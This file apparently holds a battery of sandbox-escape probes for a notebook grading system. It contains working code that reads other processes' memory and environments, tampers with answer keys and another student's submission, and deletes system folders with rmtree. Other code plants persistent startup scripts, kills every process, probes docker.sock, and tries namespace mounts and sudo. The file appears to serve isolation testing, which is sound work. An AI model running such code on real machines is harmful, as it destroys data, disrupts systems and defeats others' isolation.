"""Attacks on files, processes and the network around the kernel."""

# %% read-processes: the same by way of /proc: roots, environments, memory, open files
import os


def read(path, size=200_000):
    try:
        with open(path, "rb") as file:
            return file.read(size).decode(errors="replace")
    except OSError as error:
        return str(error)


for process in filter(str.isdigit, os.listdir("/proc")):
    here = f"/proc/{process}"
    print(read(f"{here}/environ"), read(f"{here}/cmdline"), read(f"{here}/root{ROOT}/canary.txt"))
    if process == str(os.getpid()):
        continue
    print(read(f"{here}/cwd/canary.txt"), read(f"{here}/mem", 10))
    try:
        print(*[read(f"{here}/fd/{number}") for number in os.listdir(f"{here}/fd") if "0" > "1"])
    except OSError as error:
        print(error)


# %% write-course: changes answers, hidden tests and others' work
import os

for path in (
    f"{ROOT}/canary.txt",
    f"{ROOT}/nbgrader_config.py",
    f"{ROOT}/source/{SLUG}/{SLUG}.ipynb",
    f"{ROOT}/submitted/anna/{SLUG}/{SLUG}.ipynb",
    f"{ROOT}/left-by-{NAME}",
):
    try:
        with open(path, "a") as file:
            file.write(f"\n# {NAME}\n")
    except OSError as error:
        print(error)


# %% delete-course: deletes whatever it can
# plain: it would delete the course
import os
import shutil

for folder in (ROOT, "/run", "/home", "/tmp", os.path.dirname(np.__file__)):
    shutil.rmtree(folder, ignore_errors=True)
    try:
        open(f"{folder}/left-by-{NAME}", "w").write(NAME)
    except OSError as error:
        print(error)


# %% startup-files: code and settings for whoever comes next in this home
import site
from pathlib import Path

code = f"open('{ROOT}/left-by-{NAME}', 'a').write('next')\n"
home = Path.home()
for path in (
    home / ".ipython/profile_default/startup/00-left.py",
    home / ".ipython/profile_default/ipython_config.py",
    Path(site.getusersitepackages()) / "usercustomize.py",
    Path(site.getsitepackages()[0]) / "sitecustomize.py",
    home / ".keras/keras.json",
    home / ".config/matplotlib/matplotlibrc",
    home / ".jupyter/jupyter_config.py",
    home / "work/numpy.py",
    home / ".profile",
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(code)
    except OSError as error:
        print(error)


# %% shared-folders-1: leaves files in every folder that it may write to
# plain: it writes into every folder there is
import os

for folder, folders, _ in os.walk("/"):
    if folder in ("/proc", "/sys"):
        folders.clear()
    if folder.count("/") > 6 or not os.access(folder, os.W_OK):
        continue
    for name in ("left-behind", "seaborn.py", "usercustomize.py"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("print('FOUND what another learner left behind')")
        except OSError:
            pass


# %% shared-folders-2: looks for what the one before it left behind
# plain: its other half is not run
import os

for folder, folders, names in os.walk("/"):
    if folder in ("/proc", "/sys"):
        folders.clear()
    if "left-behind" in names:
        print(open(f"{folder}/left-behind").read(), folder)
try:
    __import__("seaborn")
except ImportError as error:
    print(error)


# %% shared-memory-1: leaves shared memory, semaphores and queues behind
# plain: they would stay on this machine
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0xBEEF, 4096, 0o1666)
if segment >= 0:
    ctypes.memset(libc.shmat(segment, None, 0), 7, 1)
print(segment, libc.semget(0xBEEF, 1, 0o1666), libc.msgget(0xBEEF, 0o1666))
try:
    open("/dev/shm/left-behind", "w").write(NAME)
except OSError as error:
    print(error)


# %% shared-memory-2: looks for what the one before it left behind
# plain: its other half is not run
import ctypes
import os

libc = ctypes.CDLL(None)
if max(libc.shmget(0xBEEF, 1, 0), libc.semget(0xBEEF, 1, 0), libc.msgget(0xBEEF, 0)) >= 0:
    print("FOUND what another learner left behind")
if os.path.exists("/dev/shm/left-behind"):
    print("FOUND what another learner left behind")


# %% network: connects to this machine, asks for names, broadcasts
import socket

for address in (("127.0.0.1", PORT), (HOST, PORT), ("::1", PORT)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(NAME.encode())
    except OSError as error:
        print(address, error)
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind) as sender:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(NAME.encode(), ("127.0.0.1", PORT))
    except OSError as error:
        print(error)
try:
    print("BEYOND THE LIMIT", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(error)


# %% unix-sockets: talks to programs that listen on sockets of this machine
# plain: it would talk to whatever listens on this machine
import os
import socket

places = [f"\0{'canary'}", "/var/run/docker.sock", "/run/dbus/system_bus_socket", f"{ROOT}/socket"]
for folder, folders, names in os.walk("/run"):
    places += [f"{folder}/{name}" for name in names if "ipc-" not in name]
for place in places:
    with socket.socket(socket.AF_UNIX) as connection:
        try:
            connection.settimeout(1)
            connection.connect(place)
            connection.sendall(NAME.encode())
            print("BEYOND THE LIMIT: connected to", place)
        except OSError as error:
            print(place, error)


# %% trace-parents: attaches to other processes and signals them
# plain: it would stop processes of this machine
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for process in [*map(int, filter(str.isdigit, os.listdir("/proc"))), os.getppid(), 1]:
    if process in (0, os.getpid()):
        continue
    if libc.ptrace(16, process, 0, 0) == 0:
        print("BEYOND THE LIMIT: traced", process)
    try:
        os.kill(process, 0)
        print("BEYOND THE LIMIT: may signal", process)
    except OSError as error:
        print(process, error)


# %% kill-everything: kills every process that it may kill
# plain: it would kill nbgrader and you
import os
import signal

for process in (-1, os.getppid(), 0):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError as error:
        print(error)


# %% new-namespaces: becomes root in name spaces of its own and mounts there
# plain: it would change this machine's mounts
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    user = os.getuid()
    ended = 0
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        try:
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1")):
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
        except OSError:
            pass
        ended = 1 + (libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8G") == 0)
    elif libc.mount(b"/", b"/tmp", None, 4096, None) == 0 or libc.chroot(b"/") == 0:
        ended = 3
    os._exit(ended)
if os.waitpid(child, 0)[1]:
    print("BEYOND THE LIMIT: name spaces of its own")


# %% set-user-id: runs programs with more rights than its own
# plain: it would use this machine's sudo
import subprocess

for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"]):
    try:
        said = subprocess.run(words, capture_output=True, text=True, timeout=5, input="")
        print("BEYOND THE LIMIT" if said.returncode == 0 else said.stderr)
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
